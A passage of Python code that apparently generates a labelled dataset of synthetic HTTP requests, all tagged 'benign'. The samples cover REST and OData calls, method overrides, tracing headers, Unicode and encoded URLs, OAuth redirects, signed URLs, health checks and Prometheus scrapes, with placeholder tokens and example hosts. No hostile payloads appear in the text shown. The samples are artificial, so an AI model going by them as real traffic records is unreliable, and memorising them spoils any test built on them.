        ("GET", "/api/v1/orders?status=open", [("traceparent", tp()), ("tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7")], None),
        ("POST", "/api/v1/payments", [("Idempotency-Key", uuid4(R)), ("Content-Type", "application/json")],
         json.dumps({"amount": 4990, "currency": "eur", "source": "tok_visa", "description": "Order #88123"})),
        ("POST", "/v1/refunds", [("Idempotency-Key", "refund-88123-1"), ("Content-Type", "application/x-www-form-urlencoded"), ("Stripe-Version", "2024-04-10")],
         "charge=ch_3P9xYz&amount=1000&reason=requested_by_customer"),
        ("GET", "/api/v1/cart", [("traceparent", tp()), ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false")], None),
        ("POST", "/odata/Customers", [("Prefer", "return=minimal"), ("Content-Type", "application/json;odata.metadata=minimal"), ("OData-Version", "4.0")],
         json.dumps({"CustomerID": "ALFKI", "CompanyName": "Alfreds Futterkiste", "Country": "Germany"})),
        ("GET", "/odata/Orders?$filter=Freight%20gt%2050&$top=20&$select=OrderID,Freight", [("Prefer", "odata.maxpagesize=50"), ("OData-MaxVersion", "4.0")], None),
        ("POST", "/api/v1/reports", [("Prefer", "respond-async, wait=10"), ("Content-Type", "application/json")], json.dumps({"type": "sales", "period": "2024-Q1"})),
        ("PATCH", "/rest/v1/profiles?id=eq.42", [("Prefer", "return=representation"), ("Content-Type", "application/json"), ("apikey", alnum(R, 40))], json.dumps({"display_name": "Ana"})),
        ("POST", "/api/v1/imports", [("Prefer", "handling=lenient"), ("Content-Type", "application/json")], json.dumps({"source": "s3://imports/2024-05-14.csv"})),
        ("PUT", "/ldp/container/note-7", [("Link", '<http://www.w3.org/ns/ldp#Resource>; rel="type"'), ("Content-Type", "text/turtle")],
         '@prefix dc: <http://purl.org/dc/terms/> .\n<> dc:title "Meeting notes" .\n'),
        ("GET", "/api/v1/search?q=lamp", [("sentry-trace", "%s-%s-1" % (hexs(R, 32), hexs(R, 16))),
                                          ("baggage", "sentry-environment=production,sentry-release=web%401.42.0,sentry-public_key=" + hexs(R, 32) + ",sentry-trace_id=" + hexs(R, 32) + ",sentry-sample_rate=0.1")], None),
        ("GET", "/api/v2/inventory", [("b3", "%s-%s-1-%s" % (hexs(R, 32), hexs(R, 16), hexs(R, 16)))], None),
        ("GET", "/api/v1/accounts/77", [("x-datadog-trace-id", str(R.randint(10**18, 10**19))), ("x-datadog-parent-id", str(R.randint(10**18, 10**19))),
                                        ("x-datadog-sampling-priority", "1"), ("x-datadog-origin", "synthetics")], None),
        ("POST", "/api/v1/messages", [("X-Request-ID", uuid4(R)), ("X-Correlation-ID", "corr-" + hexs(R, 12)), ("Content-Type", "application/json")],
         json.dumps({"to": "+4915100000000", "text": "Your code is 481 220"})),
        ("GET", "/api/v1/status", [("Request-Id", "|%s.%s." % (hexs(R, 32), hexs(R, 16))), ("Request-Context", "appId=cid-v1:" + uuid4(R))], None),
        ("POST", "/v1/charges", [("Idempotency-Key", alnum(R, 24)), ("Content-Type", "application/x-www-form-urlencoded"), ("Authorization", "Basic " + base64.b64encode(("sk_test_" + alnum(R, 24) + ":").encode()).decode())],
         "amount=2000&currency=usd&source=tok_mastercard&metadata%5Border_id%5D=6735"),
    ]
    for m, p, extra, body in tr:
        c.add("tracing-prefer", "benign", m, p, sh(R, R.choice(["api.example.com", "api.example.net", "data.example.org"]), R.choice(SDKS), extra=extra), body)

    # ---- odd but valid header casing
    cs = [
        [("host", "www.example.com"), ("user-agent", BROWSERS[0]), ("accept", ACCEPT_HTML), ("accept-language", "en-US,en;q=0.9"), ("accept-encoding", "gzip, deflate, br, zstd")],
        [("HOST", "api.example.com"), ("USER-AGENT", "LegacyClient/1.0 (Windows NT 6.1)"), ("ACCEPT", "application/json")],
        [("Host", "shop.example.com"), ("user-Agent", "okhttp/3.12.13"), ("accept-Encoding", "gzip"), ("x-REQUESTED-with", "com.example.shop")],
        [("host", "api.example.net"), ("user-agent", "grpc-node-js/1.10.6"), ("accept", "application/json"), ("x-api-key", alnum(R, 32))],
        [("Host", "blog.example.org"), ("User-agent", "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)"), ("Accept", "*/*"), ("Accept-encoding", "gzip, x-gzip")],
        [("hOST", "status.example.com"), ("User-Agent", "check_http/v2.4.9 (monitoring-plugins 2.4.9)"), ("Connection", "close")],
        [("host", "www.example.com"), ("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'), ("sec-ch-ua-mobile", "?0"),
         ("sec-ch-ua-platform", '"macOS"'), ("user-agent", BROWSERS[6]), ("accept", ACCEPT_HTML), ("sec-fetch-site", "none"), ("sec-fetch-mode", "navigate"),
         ("sec-fetch-user", "?1"), ("sec-fetch-dest", "document"), ("accept-encoding", "gzip, deflate, br, zstd"), ("accept-language", "de-DE,de;q=0.9"), ("priority", "u=0, i")],
    ]
    for i, hs in enumerate(cs):
        c.add("header-casing", "benign", "GET", ["/", "/api/v1/items?page=1", "/api/cart", "/v1/quotes/EURUSD", "/feed.xml", "/healthz", "/de/"][i], hs)
    c.raw("header-casing-raw", "benign", rawreq("GET /api/v1/ping HTTP/1.1", ["HOST: api.example.com", "user-agent: embedded-http/2.1",
                                                                           "ACCEPT: */*", "connection: Keep-Alive"]))
    c.raw("header-casing-raw", "benign", rawreq("POST /api/v1/readings HTTP/1.1", ["host:api.example.net", "User-Agent:ESP8266HTTPClient",
                                                                                 "Content-Type:application/json", "Content-Length:{CL}"],
                                                 '{"id":"th-0017","t":21.4,"h":48}'))


def benign_methods(c):
    R = c.R
    # ---- legitimate method overrides
    c.add("method-override", "benign", "POST", "/drive/v3/files/1aBcD9xYz", sh(R, "www.example.com", "google-api-python-client/2.126.0 gdcl/2.126.0 gl-python/3.11.8", extra=[
        ("X-HTTP-Method-Override", "PATCH"), ("Content-Type", "application/json"), ("Authorization", "Bearer ya29." + alnum(R, 120))]),
        json.dumps({"name": "Budget 2024 (final).xlsx", "starred": True}))
    c.add("method-override", "benign", "POST", "/api/v2/search/events", sh(R, "api.example.com", "Apache-HttpClient/4.5.14 (Java/17.0.10)", extra=[
        ("X-HTTP-Method-Override", "GET"), ("Content-Type", "application/x-www-form-urlencoded")]),
        "q=status%3Aopen+AND+region%3Aemea&fields=id,title,created_at&" + "&".join("tag=%s" % t for t in ["infra", "billing", "p1", "customer-facing", "q2"]))
    c.add("method-override", "benign", "POST", "/services/data/v60.0/sobjects/Account/001Dn00000AbCdEIAV?_HttpMethod=PATCH",
          sh(R, "crm.example.com", "simple-salesforce/1.12.5", extra=[("Content-Type", "application/json"), ("Authorization", "Bearer 00D" + alnum(R, 100))]),
          json.dumps({"Industry": "Manufacturing", "NumberOfEmployees": 120}))
    c.add("method-override", "benign", "POST", "/api/v1/items/42", sh(R, "api.example.net", "Dart/3.3 (dart:io)", extra=[
        ("X-HTTP-Method-Override", "PUT"), ("Content-Type", "application/json")]), json.dumps({"name": "Desk lamp", "price": 39.9}))
    c.add("method-override", "benign", "POST", "/odata/v2/Products(7)", sh(R, "data.example.org", "Microsoft.OData.Client/7.20.0", extra=[
        ("X-HTTP-Method", "MERGE"), ("Content-Type", "application/json"), ("DataServiceVersion", "2.0")]), json.dumps({"UnitPrice": "18.50"}))
    c.add("method-override", "benign", "POST", "/api/v1/contacts/88", sh(R, "api.example.com", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1) legacy-crm-plugin", extra=[
        ("X-HTTP-Method-Override", "DELETE"), ("Content-Type", "application/json"), ("Authorization", "Bearer " + alnum(R, 40))]), "{}")
    tok = lambda: base64.b64encode(bytes(R.randrange(256) for _ in range(64))).decode()
    c.add("method-override", "benign", "POST", "/users/42", bh(R, "app.example.net", extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://app.example.net"), ("Referer", "https://app.example.net/users/42/edit")]),
          urlencode([("_method", "patch"), ("authenticity_token", tok()), ("user[name]", "Jörg Müller"), ("user[email]", "joerg@example.net"), ("commit", "Update User")]))
    c.add("method-override", "benign", "POST", "/posts/118", bh(R, "blog.example.org", extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://blog.example.org")]),
          urlencode([("_method", "delete"), ("authenticity_token", tok())]))
    c.add("method-override", "benign", "POST", "/projects/7/settings", bh(R, "portal.example.org", extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://portal.example.org")]),
          urlencode([("_token", alnum(R, 40)), ("_method", "PUT"), ("name", "Website relaunch"), ("visibility", "team")]))
    c.add("method-override", "benign", "POST", "/admin/comments/5531/approve", bh(R, "blog.example.org", extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://blog.example.org"), ("Cookie", "_blog_session=" + alnum(R, 120))]),
          urlencode([("_method", "PATCH"), ("authenticity_token", tok()), ("comment[state]", "approved")]))

    # ---- PATCH / PUT / DELETE APIs
    api = [
        ("PATCH", "/api/v1/users/42", "application/merge-patch+json", {"email": "ana@example.com", "nickname": None}),
        ("PATCH", "/api/v1/orders/88123", "application/json-patch+json", [{"op": "replace", "path": "/shipping/address/city", "value": "Lisboa"}, {"op": "add", "path": "/tags/-", "value": "gift"}, {"op": "remove", "path": "/coupon"}]),
        ("PUT", "/api/v1/settings/notifications", "application/json", {"email": True, "push": False, "digest": "weekly"}),
        ("DELETE", "/api/v1/sessions/current", None, None),
        ("DELETE", "/api/v1/cart/items/17", None, None),
        ("PATCH", "/repos/acme/web/issues/1347", "application/json", {"state": "closed", "state_reason": "completed", "labels": ["bug", "frontend"]}),
        ("PATCH", "/apis/apps/v1/namespaces/shop/deployments/cart?fieldManager=kubectl-edit", "application/strategic-merge-patch+json", {"spec": {"replicas": 4, "template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2024-05-14T10:22:01Z"}}}}}),
        ("PUT", "/v2/team/api-server/manifests/1.42.0", "application/vnd.docker.distribution.manifest.v2+json", {"schemaVersion": 2, "mediaType": "application/vnd.docker.distribution.manifest.v2+json", "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "size": 7023, "digest": "sha256:" + hexs(R, 64)}, "layers": [{"mediaType": "application/vnd.docker.image.rootfs.diff.tar.gzip", "size": 32654, "digest": "sha256:" + hexs(R, 64)}]}),
        ("DELETE", "/orders/_doc/1042?refresh=wait_for", None, None),
        ("PUT", "/calendars/team/events/standup-2024-05-15", "application/json", {"summary": "Stand-up", "start": "2024-05-15T09:30:00+02:00", "end": "2024-05-15T09:45:00+02:00", "recurrence": ["RRULE:FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR"]}),
        ("PATCH", "/api/v2/tickets/5512/comments/3", "application/json", {"body": "Fixed in 1.42.1, please retry & let us know :)"}),
        ("DELETE", "/api/v1/files/photos%2F2024%2Fimg_0042.jpg", None, None),
        ("PUT", "/api/v1/users/42/avatar", "image/svg+xml", None),
        ("PATCH", "/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl&fieldValidation=Strict&force=true", "application/apply-patch+yaml", None),
        ("PUT", "/api/v1/feature-flags/new-checkout", "application/json", {"enabled": True, "rollout": {"percent": 25, "segments": ["beta", "staff"]}}),
        ("DELETE", "/api/v1/webhooks/wh_9f3a?reason=rotated", None, None),
        ("PATCH", "/scim/v2/Users/2819c223", "application/scim+json", {"schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"], "Operations": [{"op": "replace", "path": "active", "value": False}]}),
        ("PUT", "/api/v1/translations/de/checkout.json", "application/json", {"checkout.title": "Zur Kasse", "checkout.total": "Gesamtsumme (inkl. MwSt.)"}),
        ("DELETE", "/api/v1/bookmarks?ids=17,18,19", None, None),
        ("PATCH", "/api/v1/me/preferences", "application/json", {"theme": "dark", "language": "pt-BR", "timezone": "America/Sao_Paulo"}),
    ]
    for m, p, ctype, data in api:
        extra = [("Authorization", "Bearer " + alnum(R, 40))]
        body = None
        if ctype:
            extra.insert(0, ("Content-Type", ctype))
            if ctype == "image/svg+xml":
                body = '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><circle cx="32" cy="32" r="30" fill="#4a90d9"/></svg>'
            elif ctype == "application/apply-patch+yaml":
                body = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n      - name: web\n        image: registry.example.com/shop/web:1.42.0\n"
            else:
                body = json.dumps(data, ensure_ascii=False)
        if "repos/" in p:
            extra += [("X-GitHub-Api-Version", "2022-11-28")]
            acc = "application/vnd.github+json"
        else:
            acc = "application/json"
        c.add("rest-api", "benign", m, p, sh(R, R.choice(["api.example.com", "api.example.net", "k8s.example.org", "registry.example.com"]), R.choice(SDKS), accept=acc, extra=extra), body)


def benign_urls(c):
    R = c.R
    mx = [
        "/catalog/shoes;color=black;size=42/items",
        "/map;lat=50.1109;lng=8.6821;zoom=12",
        "/app/login;jsessionid=8F3A2B61C0D44E5A9B7C1D2E3F405162",
        "/api/cars;make=volvo;year=2021/models",
        "/docs/section;version=3.2?lang=en",
        "/reports;from=2024-01-01;to=2024-03-31/summary.csv",
    ]
    for p in mx:
        c.add("matrix-params", "benign", "GET", p, bh(R, R.choice(SITES), accept=ACCEPT_HTML if "api" not in p else ACCEPT_JSON))
    enc = [
        ("/api/v4/projects/platform%2Finfra%2Fterraform/repository/files/modules%2Fvpc%2Fmain.tf/raw?ref=main", "gitlab.example.com", "python-gitlab/4.4.0", [("PRIVATE-TOKEN", "glpat-" + alnum(R, 20))]),
        ("/@types%2fnode", "registry.example.org", "npm/10.5.0 node/v20.12.2 linux x64 workspaces/false", [("npm-command", "install"), ("Accept", "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*")]),
        ("/job/team%2Fcheckout-service/job/main/lastBuild/api/json?tree=result,timestamp", "ci.example.com", "python-requests/2.31.0", [("Authorization", "Basic " + base64.b64encode(b"ci-bot:" + hexs(R, 34).encode()).decode())]),
        ("/api/queues/%2F/orders.created", "mq.example.net", "Go-http-client/1.1", [("Authorization", "Basic " + base64.b64encode(b"monitor:" + alnum(R, 16).encode()).decode())]),
        ("/api/exchanges/%2Fproduction/amq.topic/bindings/source", "mq.example.net", "curl/8.5.0", []),
        ("/v1/kv/config%2Fservice%2Fweb%2Ffeature-flags?raw", "consul.example.org", "Consul Template/0.37.4", []),
        ("/api/v1/objects/invoices%2F2024%2FINV-00042.pdf/metadata", "files.example.org", "aws-sdk-go-v2/1.26.1", []),
    ]
    for p, host, ua, extra in enc:
        hs = sh(R, host, ua, extra=[e for e in extra if e[0] != "Accept"])
        if any(e[0] == "Accept" for e in extra):
            hs[2] = ("Accept", [e[1] for e in extra if e[0] == "Accept"][0])
        c.add("encoded-slash-id", "benign", "GET", p, hs)
    uni = [
        ("/wiki/" + quote("東京都"), "ja"),
        ("/de/produkte/" + quote("größe-müsli-bio"), "de-DE,de;q=0.9"),
        ("/fr/" + quote("cafés") + "/paris?arrondissement=11", "fr-FR,fr;q=0.9"),
        ("/ru/" + quote("каталог") + "/" + quote("книги"), "ru-RU,ru;q=0.9,en;q=0.5"),
        ("/search?q=" + quote("🍕 near me"), "en-US,en;q=0.9"),
        ("/ko/" + quote("서울") + "/" + quote("맛집"), "ko-KR,ko;q=0.9"),
        ("/tags/" + quote("été-2024"), "fr-CA,fr;q=0.9,en;q=0.8"),
        ("/users/" + quote("jörg.müller"), "de-AT,de;q=0.9"),
        ("/files/" + quote("Bewerbung Jürgen Müller.pdf"), "de-DE,de;q=0.9"),
        ("/ar/" + quote("مقالات") + "?page=2", "ar-EG,ar;q=0.9,en;q=0.8"),
        ("/zh/" + quote("产品") + "/" + quote("手机壳"), "zh-CN,zh;q=0.9"),
        ("/el/" + quote("ταξίδια") + "/" + quote("σαντορίνη"), "el-GR,el;q=0.9,en;q=0.7"),
    ]
    for p, lang in uni:
        c.add("unicode-path", "benign", "GET", p, bh(R, R.choice(["www.example.com", "shop.example.com", "wiki.example.org"]), lang=lang))

    # ---- long analytics query strings
    for i in range(14):
        q = [("utm_source", R.choice(["google", "facebook", "newsletter", "linkedin", "bing", "tiktok", "instagram"])),
             ("utm_medium", R.choice(["cpc", "email", "social", "paid_social", "display"])),
             ("utm_campaign", R.choice(["spring_sale_2024", "brand|de|exact", "q2-webinar-series", "retargeting_cart_abandoners", "black-friday-early-access"])),
             ("utm_term", R.choice(["trail running shoes", "wool+socks", "http caching", "crm software"])),
             ("utm_content", R.choice(["hero-banner-v2", "cta_bottom", "carousel_3", "text-link"]))]
        k = i % 7
        if k == 0:
            q.append(("gclid", "Cj0KCQjw" + alnum(R, 80, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") + "_BwE"))
        elif k == 1:
            q.append(("fbclid", "IwAR" + alnum(R, 60, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")))
        elif k == 2:
            q += [("msclkid", hexs(R, 32))]
        elif k == 3:
            q += [("_hsenc", "p2ANqtz-" + alnum(R, 70, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")), ("_hsmi", str(R.randint(10**8, 10**9)))]
        elif k == 4:
            q += [("mc_cid", hexs(R, 10)), ("mc_eid", hexs(R, 10))]
        elif k == 5:
            q += [("ttclid", alnum(R, 40)), ("wbraid", "Cj" + alnum(R, 50)), ("gbraid", "0AAAAAD" + alnum(R, 30))]
        else:
            q += [("_gl", "1*%s*_ga*%s*_ga_%s*%s" % (alnum(R, 6).lower(), base64.b64encode(str(R.randint(10**9, 10**10)).encode()).decode().rstrip("="),
                                                     alnum(R, 10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), base64.b64encode(("%d.1.1.%d" % (R.randint(10**9, 2 * 10**9), R.randint(10**9, 2 * 10**9))).encode()).decode().rstrip("="))),
                  ("srsltid", "AfmBOo" + alnum(R, 50))]
        if i >= 7:
            q += [("ref", "producthunt"), ("li_fat_id", uuid4(R)), ("twclid", alnum(R, 25)), ("igshid", alnum(R, 32))][: (i - 6)]
        path = R.choice(["/", "/landing/spring-sale", "/products/trail-runner-3", "/pricing", "/webinar/register", "/blog/http-caching-guide", "/de/angebote"])
        c.add("analytics-query", "benign", "GET", path + "?" + urlencode(q), bh(R, R.choice(["www.example.com", "shop.example.com", "www.example.org"]),
                                                                               extra=[("Referer", R.choice(["https://search.example.com/", "https://social.example.net/", "https://mail.example.org/", "https://news.example.net/"])),
                                                                                      ("Sec-Fetch-Site", "cross-site"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Dest", "document"), ("Upgrade-Insecure-Requests", "1")]))

    # ---- repeated / empty / plus / semicolon parameters
    qs = [
        "/search?tag=python&tag=http&tag=proxy",
        "/api/v1/items?ids%5B%5D=101&ids%5B%5D=102&ids%5B%5D=107",
        "/products?filter=&sort=price&page=",
        "/search?q=new+york+pizza",
        "/search?q=new%20york%20pizza",
        "/cgi-bin/catalog.pl?lang=en;page=2;per_page=50",
        "/api/v1/users?fields=id,name,email&expand=owner",
        "/list?archived&sort=-updated_at",
        "/search?q=C%2B%2B+tutorial&level=beginner",
        "/api/v1/events?from=2024-05-14T10:00:00%2B02:00&to=2024-05-14T18:00:00%2B02:00",
        "/classes/Task?where=%7B%22status%22%3A%22open%22%2C%22priority%22%3A%7B%22%24gte%22%3A2%7D%7D&limit=50",
        "/api/articles?page%5Bsize%5D=25&page%5Bnumber%5D=2&filter%5Bstatus%5D=published&include=author,comments",
        "/report?region=emea&region=apac&region=amer&format=csv&format=",
        "/search?q=%22exact+phrase%22+-excluded+site%3Aexample.org&hl=en&num=20",
    ]
    for p in qs:
        c.add("query-shapes", "benign", "GET", p, bh(R, R.choice(SITES), accept=ACCEPT_JSON if "/api" in p or "/classes" in p else ACCEPT_HTML))

    # ---- benign redirect / return parameters and OAuth
    rd = [
        "/login?next=%2Fdashboard%2Fprojects%3Ftab%3Dactive",
        "/logout?return_to=https%3A%2F%2Fwww.example.com%2F",
        "/sso/saml?RelayState=%2Fapps%2Fbilling",
        "/cart?continue=/checkout/shipping",
        "/r?u=https%3A%2F%2Fdocs.example.org%2Fguide%2Finstall",
        "/account/signin?redirect=%2Forders%2F88123%3Fhighlight%3Dtracking",
        "/auth/login?returnUrl=%2Fadmin-area%2Freports",
        "/lang/de?back=%2Fde%2Fprodukte",
    ]
    for p in rd:
        c.add("redirect-param", "benign", "GET", p, bh(R, R.choice(["www.example.com", "accounts.example.com", "app.example.net"])))
    verifier = b64url(hashlib.sha256(alnum(R, 43).encode()).digest())
    oauth = [
        "/oauth/authorize?response_type=code&client_id=web-app&redirect_uri=https%3A%2F%2Fapp.example.com%2Fauth%2Fcallback&scope=openid%20profile%20email&state=" + alnum(R, 22) + "&code_challenge=" + verifier + "&code_challenge_method=S256",
        "/auth/callback?code=" + alnum(R, 40) + "&state=" + alnum(R, 22) + "&session_state=" + uuid4(R),
        "/realms/example/protocol/openid-connect/auth?client_id=portal&redirect_uri=https%3A%2F%2Fportal.example.org%2Fsilent-check-sso.html&response_mode=fragment&response_type=code&scope=openid&nonce=" + uuid4(R) + "&prompt=none",
        "/.auth/login/aad/callback?code=" + alnum(R, 60) + "&state=redir%3D%252Fhome",
    ]
    for p in oauth:
        c.add("oauth-redirect", "benign", "GET", p, bh(R, R.choice(["login.example.com", "app.example.com", "portal.example.org"]), extra=[("Referer", "https://login.example.com/")]))

    # ---- signed URLs
    sg = [
        "/media-bucket/videos/intro.mp4?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20240514%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20240514T102201Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=" + hexs(R, 64),
        "/exports/report-q1.csv?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=exporter%40project.iam.gserviceaccount.com%2F20240514%2Fauto%2Fstorage%2Fgoog4_request&X-Goog-Date=20240514T102201Z&X-Goog-Expires=900&X-Goog-SignedHeaders=host&X-Goog-Signature=" + hexs(R, 256),
        "/container/docs/contract.pdf?sv=2022-11-02&ss=b&srt=sco&sp=rl&se=2024-05-15T10:22:01Z&st=2024-05-14T10:22:01Z&spr=https&sig=" + quote(base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode(), safe=""),
        "/images/products/sku-1234.jpg?w=800&h=800&fit=crop&auto=format,compress&s=" + hexs(R, 32),
        "/private/invoice-88123.pdf?Expires=1715767634&Signature=" + alnum(R, 170, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-~_") + "&Key-Pair-Id=K2JCJMDEHXQW5F",
        "/download/build-1.42.0.tar.gz?token=" + b64url(bytes(R.randrange(256) for _ in range(48))) + "&expires=1715767634",
    ]
    for p in sg:
        c.add("signed-url", "benign", "GET", p, bh(R, R.choice(["media.example.com", "files.example.org", "cdn.example.net"]), accept="*/*"))

    # ---- static assets
    st = [
        ("/static/js/main.8f3a2c1d.js", "*/*", "script"),
        ("/_next/static/chunks/pages/_app-3f2a9c81b7e4d6a0.js", "*/*", "script"),
        ("/assets/fonts/Inter-roman.var.woff2?v=3.19", "*/*", "font"),
        ("/static/css/app.4f2a.css", "text/css,*/*;q=0.1", "style"),
        ("/images/hero@2x.webp", ACCEPT_IMG, "image"),
        ("/img/products/sku-1234_800x800.jpg?w=400&h=400&fit=crop&auto=format,compress", ACCEPT_IMG, "image"),
        ("/build/app.js?id=7f3c2a9b1e", "*/*", "script"),
        ("/static/js/main.8f3a2c1d.js.map", "*/*", "empty"),
    ]
    for p, acc, dest in st:
        extra = [("Referer", "https://www.example.com/"), ("Sec-Fetch-Dest", dest), ("Sec-Fetch-Mode", "cors" if dest == "font" else "no-cors"), ("Sec-Fetch-Site", "same-site")]
        if dest == "font":
            extra.append(("Origin", "https://www.example.com"))
        c.add("static-asset", "benign", "GET", p, bh(R, "cdn.example.net", accept=acc, extra=extra))

    # ---- downloads
    c.add("download", "benign", "GET", "/files/download?name=" + quote("Q1 report (final).xlsx") + "&disposition=attachment", bh(R, "portal.example.org"))
    c.add("download", "benign", "GET", "/export.csv?from=2024-01-01&to=2024-03-31&columns=date,orders,revenue", bh(R, "app.example.net", accept="text/csv,*/*;q=0.8"))
    c.add("download", "benign", "GET", "/api/v1/invoices/INV-00042/pdf?lang=de&copy=true", sh(R, "api.example.com", "okhttp/4.12.0", accept="application/pdf"))


def benign_clients(c):
    R = c.R
    # ---- HTTP/1.0 clients
    h10 = [
        ("GET", "/", [("Host", "www.example.com"), ("User-Agent", "ApacheBench/2.3"), ("Accept", "*/*")]),
        ("GET", "/status", [("Host", "status.example.com"), ("User-Agent", "check_http/v2.3.3 (nagios-plugins 2.3.3)"), ("Connection", "close")]),
        ("GET", "/downloads/latest.tar.gz", [("Host", "media.example.com"), ("User-Agent", "Wget/1.12 (linux-gnu)"), ("Accept", "*/*"), ("Connection", "Keep-Alive")]),
        ("GET", "/docs/", [("Host", "docs.example.org"), ("User-Agent", "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.9"), ("Accept", "text/html, text/plain, text/sgml, */*;q=0.01"), ("Accept-Language", "en")]),
        ("OPTIONS", "/", [("Host", "www.example.com"), ("User-Agent", "HAProxy-healthcheck")]),
        ("GET", "/ping", [("Host", "api.example.com"), ("User-Agent", "Monit/5.33.0"), ("Accept", "*/*"), ("Connection", "close")]),
        ("HEAD", "/", [("Host", "blog.example.org"), ("User-Agent", "Zabbix"), ("Connection", "close")]),
        ("POST", "/cgi-bin/guestbook.cgi", [("Host", "www.example.org"), ("User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"), ("Content-Type", "application/x-www-form-urlencoded")]),
    ]
    for m, p, hs in h10:
        body = "name=Ana&message=Hallo+aus+Berlin%21" if m == "POST" else None
        c.add("http10-client", "benign", m, p, hs, body, version="HTTP/1.0")

    # ---- health checks
    hc = [
        ("/healthz", "kube-probe/1.29", "192.0.2.17:8080"),
        ("/readyz", "kube-probe/1.29", "192.0.2.17:8080"),
        ("/livez?verbose", "kube-probe/1.30", "192.0.2.44:8443"),
        ("/actuator/health/liveness", "kube-probe/1.28", "198.51.100.23:8081"),
        ("/health", "ELB-HealthChecker/2.0", "198.51.100.9"),
        ("/", "GoogleHC/1.0", "203.0.113.12"),
        ("/v1/health", "Consul Health Check", "api.example.com"),
        ("/ready", "Envoy/HC", "app.example.net"),
        ("/", "Azure Traffic Manager Endpoint Monitor", "www.example.com"),
        ("/status", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "status.example.com"),
        ("/", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "www.example.com"),
        ("/health/deep?checks=db,cache", "Datadog/Synthetics", "api.example.com"),
        ("/", "GoogleStackdriverMonitoring-UptimeChecks(https://cloud.google.com/monitoring)", "shop.example.com"),
        ("/health", "Amazon-Route53-Health-Check-Service (ref 2f3a9c41-7e1b-4a5d-9c0e-8b7f6a5d4c3b; report http://amzn.to/1vsZADi)", "api.example.net"),
    ]
    for p, ua, host in hc:
        hs = [("Host", host), ("User-Agent", ua)]
        if "kube" in ua:
            hs += [("Accept", "*/*"), ("Connection", "close")]
        elif "ELB" in ua:
            hs += [("Connection", "close")]
        elif "Datadog" in ua:
            hs += [("Accept", "application/json"), ("x-datadog-origin", "synthetics"), ("x-datadog-trace-id", str(R.randint(10**18, 10**19)))]
        elif "Azure" in ua:
            hs += [("Connection", "close")]
        c.add("health-check", "benign", "GET", p, hs)

    # ---- Prometheus and friends
    om = "application/openmetrics-text;version=1.0.0;q=0.5,application/openmetrics-text;version=0.0.1;q=0.4,text/plain;version=0.0.4;q=0.3,*/*;q=0.2"
    pr = [
        ("/metrics", "Prometheus/2.51.2", "192.0.2.31:9100", om),
        ("/actuator/prometheus", "Prometheus/2.51.2", "192.0.2.58:8081", om),
        ("/federate?match%5B%5D=%7Bjob%3D%22api%22%7D&match%5B%5D=up", "Prometheus/2.48.1", "prometheus.example.org", "text/plain;version=0.0.4;q=1,*/*;q=0.1"),
        ("/metrics", "vm_promscrape", "198.51.100.77:9187", "text/plain"),
        ("/metrics/cadvisor", "GrafanaAgent/v0.40.4 (static; linux)", "198.51.100.12:10250", om),
        ("/stats/prometheus", "Prometheus/2.51.2", "192.0.2.90:15090", om),
    ]
    for p, ua, host, acc in pr:
        c.add("prometheus-scrape", "benign", "GET", p, [("Host", host), ("User-Agent", ua), ("Accept", acc), ("Accept-Encoding", "gzip"),
                                                          ("X-Prometheus-Scrape-Timeout-Seconds", R.choice(["10", "15", "30"]))])

    # ---- upgrades
    wsk = lambda: base64.b64encode(bytes(R.randrange(256) for _ in range(16))).decode()
    c.add("upgrade", "benign", "GET", "/ws", bh(R, "app.example.net", accept="*/*", extra=[
        ("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Key", wsk()), ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"), ("Origin", "https://app.example.net")]))
    c.add("upgrade", "benign", "GET", "/socket.io/?EIO=4&transport=websocket&sid=" + alnum(R, 20), bh(R, "chat.example.com", accept="*/*", extra=[
        ("Upgrade", "websocket"), ("Connection", "keep-alive, Upgrade"), ("Sec-WebSocket-Key", wsk()), ("Sec-WebSocket-Version", "13"),
        ("Origin", "https://chat.example.com"), ("Pragma", "no-cache"), ("Cache-Control", "no-cache")]))
    c.add("upgrade", "benign", "GET", "/cable", bh(R, "app.example.net", accept="*/*", extra=[
